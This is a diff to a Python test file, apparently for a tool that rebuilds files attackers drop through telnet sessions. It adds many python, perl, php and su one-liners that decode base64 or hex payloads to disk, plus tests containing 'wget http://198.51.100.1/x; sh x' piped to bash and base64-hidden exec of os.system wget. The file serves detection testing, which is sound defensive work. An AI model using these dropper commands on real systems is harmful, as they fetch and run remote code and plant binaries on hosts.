@@ -110,6 +110,7 @@ def loader(data, first, rest, form=rb'\x%02x', size=120):
 
 
 B64 = [piece for piece in pieces(base64.b64encode(ELF), 76)]
+CODED, HEX = base64.b64encode(ELF), binascii.hexlify(ELF)
 OCTAL = rb'\%03o'
 PASTED = {
     'echo': (loader(ELF, b'echo -ne "%s" > .d', b'echo -ne "%s" >> .d'), '.d'),
@@ -135,6 +136,24 @@ PASTED = {
     'openssl enc': ([b'openssl enc -base64 -d > k << EOF', *B64, b'EOF'], 'k'),
     'typed until ^D': ([b'base64 -d > k', *B64, b'\x04chmod +x k', b'echo done'], 'k'),
     'hex': ([b'echo ' + binascii.hexlify(ELF) + b' | xxd -r -p > k'], 'k'),
+    'python write': (loader(ELF, b'python -c "open(\'k\',\'wb\').write(\'%s\')"', b'python -c "open(\'k\', \'ab\').write(b\'%s\')"'), 'k'),
+    'python base64': ([b"python3 -c 'import base64;open(\"/tmp/k\",\"wb\").write(base64.b64decode(\"%s\"))'" % CODED], '/tmp/k'),
+    'python import': ([b'''python -c "open('k', 'w').write(__import__('base64').b64decode('%s'))"''' % CODED], 'k'),
+    'python stdout': ([b"python3 -c 'import sys; sys.stdout.buffer.write(bytes.fromhex(\"%s\"))' > k" % HEX], 'k'),
+    'python print': (loader(ELF, b"python2 -c 'print \"%s\",' > k", b"python2 -c 'print \"%s\",' >> k"), 'k'),
+    'python codec': ([b"python -c 'print(\"%s\".decode(\"hex\"), end=\"\")' > k" % HEX], 'k'),
+    'python numbers': ([b"python3 -c 'open(\"k\",\"wb\").write(bytes([%s]))'" % b', '.join(b'%d' % byte for byte in ELF)], 'k'),
+    'python script': ([b'python3 - << EOF', b'import binascii', b'with open("k", "wb") as f:',
+                       *(b'    f.write(binascii.unhexlify("%s"))' % binascii.hexlify(piece) for piece in pieces(ELF)), b'EOF'], 'k'),
+    'perl print': (loader(ELF, b"perl -e 'print \"%s\"' > k", b"perl -e 'print \"%s\";' >> k"), 'k'),
+    'perl base64': ([b"perl -MMIME::Base64 -e 'print decode_base64(\"%s\")' > k" % CODED], 'k'),
+    'perl pack': ([b"perl -e 'print pack \"H*\", \"%s\"' > k" % HEX], 'k'),
+    'perl open': ([b"perl -e 'open(F,\">k\");binmode F;print F pack(\"H*\",\"%s\");close F'" % HEX], 'k'),
+    'perl open 3': ([b"perl -e 'open my $f, \">\", \"k\"; print {$f} pack(\"H*\", \"%s\")'" % HEX], 'k'),
+    'php': ([b"php -r 'file_put_contents(\"k\", base64_decode(\"%s\"));'" % CODED], 'k'),
+    'php fwrite': ([b"php -r '$f = fopen(\"k\", \"wb\"); fwrite($f, hex2bin(\"%s\"));'" % HEX], 'k'),
+    'php echo': ([b"php -r 'echo base64_decode(\"%s\");' | dd of=k bs=1k" % CODED], 'k'),
+    'sh -c': ([b'su -c "sh -c \'echo ' + CODED + b' | base64 -d > k\'"'], 'k'),
     'here text': ([b'base64 -d <<< ' + base64.b64encode(ELF) + b' > k'], 'k'),
 }
 
@@ -156,6 +175,12 @@ def test_pasted_into_a_shell(tmp_path):
     script = b'#!/bin/sh\nwget http://198.51.100.1/x; sh x\n'
     have = files(replay_packets(tmp_path, talk(typed(b'echo ' + base64.b64encode(script) + b' | base64 -d | bash'), 40000, 23)))
     assert have == [whole('', script)]
+
+
+def test_code_that_is_hidden(tmp_path):
+    script = b'import os\nos.system("wget http://198.51.100.1/x")\n'
+    lines = [b'''python -c "exec(__import__('base64').b64decode('%s'))"''' % base64.b64encode(script)]
+    assert files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23))) == [whole('', script)]
 
 
 def test_script_in_a_here_document(tmp_path):
